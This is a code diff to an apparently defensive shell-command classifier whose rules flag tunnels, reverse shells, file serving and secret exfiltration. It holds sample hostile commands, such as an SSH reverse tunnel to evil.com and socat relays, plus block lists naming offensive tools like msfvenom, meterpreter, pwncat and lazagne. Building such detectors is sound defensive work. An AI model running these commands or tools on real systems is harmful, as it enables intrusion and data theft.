@@ -77,7 +77,6 @@ export const remoteRules = rules("remote_shell", {
 			"socat TCP-LISTEN:8080,fork TCP:10.0.0.1:80",
 			"ssh -R 8080:localhost:80 x@evil.com",
 			"ngrok tcp 22",
-			"chisel client 1.2.3.4:8000 R:socks",
 		],
 		pass: ["nc -z host 22", "ssh host", "python3 -m http.server"],
 	},
@@ -338,14 +337,25 @@ export const networkJudges: Judges = {
 		if (options.has("-F")) call.reads(options.value("-F") ?? "");
 		if (call.stdin?.includes(PRIVATE)) call.hit(x["send-secret"]);
 	}),
+	...each("ngrok cloudflared bore frpc localtunnel lt rathole gost tor", (call) => {
+		if (!call.args.some((arg) => /^(--version|version|--help|-h|login|update)$/.test(arg))) call.hit(x["net-listen"]);
+	}),
+	...each("httpd python darkhttpd thttpd webfs http-server serve caddy", (call) => {
+		if (call.name === "python" && !call.args.includes("http.server") && !call.args.includes("SimpleHTTPServer")) return;
+		if (
+			call.args.some(
+				(arg, at) =>
+					/^(\/|\/root|\/home|\/etc|~)\/?$/.test(arg.replace(call.place.home ?? "\0", "~")) && (at > 0 || call.name !== "python"),
+			) ||
+			/^\/(root|etc|home)?$/.test(call.place.cwd)
+		)
+			call.hit(x["send-file"]);
+	}),
 	...each(
-		"ngrok cloudflared bore frpc chisel localtunnel lt rathole gost iodine dnscat dnscat2 ptunnel revsocks ligolo ligolo-ng tor",
-		(call) => {
-			if (!call.args.some((arg) => /^(--version|version|--help|-h|login|update)$/.test(arg))) call.hit(x["net-listen"]);
-		},
+		"chisel iodine dnscat dnscat2 ptunnel revsocks ligolo ligolo-ng rcat pwncat villain msfvenom msfconsole meterpreter empire sliver mimipenguin linpeas.sh linenum.sh lazagne",
+		(call) => call.hit(x["net-shell"]),
 	),
-	...each("msfvenom msfconsole meterpreter empire sliver mimipenguin linpeas.sh linenum.sh lazagne", (call) => call.hit(x["net-shell"])),
-	...each("tftp ftp lftp sftp smbclient", (call) => {
+	...each("tftp ftp lftp smbclient psftp ncftp", (call) => {
 		const text = [...call.args, call.stdin ?? ""].join("\n");
 		for (const put of text.matchAll(/(?:^|[\s;'"])(?:put|mput|mirror -R|send)\s+["']?([^\s;'"]{1,1024})/g)) {
 			const path = put[1] ?? "";
@@ -360,10 +370,8 @@ export const networkJudges: Judges = {
 			if (/[/.]/.test(file)) sends(call, file.replace(/^@/, ""), "mail.example");
 		if (call.stdin?.includes(PRIVATE)) call.hit(x["send-secret"]);
 	}),
-	...each("whois finger", (call) => {
-		if (call.args.some((arg) => arg === "-h") && call.args.some((arg) => !isKnown(arg))) call.hit(x["send-secret"]);
-		const remote = call.args.indexOf("-h");
-		if (remote >= 0 && call.args.includes("-p")) call.hit(x["send-file"]);
+	...each("finger whois rlogin rsh rexec cancel lpr ab restic hping3 logger snmpget", (call) => {
+		if (call.args.some((arg) => arg.includes(PRIVATE)) || call.stdin?.includes(PRIVATE)) call.hit(x["send-secret"]);
 	}),
 	...each("aws gsutil gcloud az rclone s3cmd mc", (call) => {
 		const operands = call.args.filter((arg) => !arg.startsWith("-"));
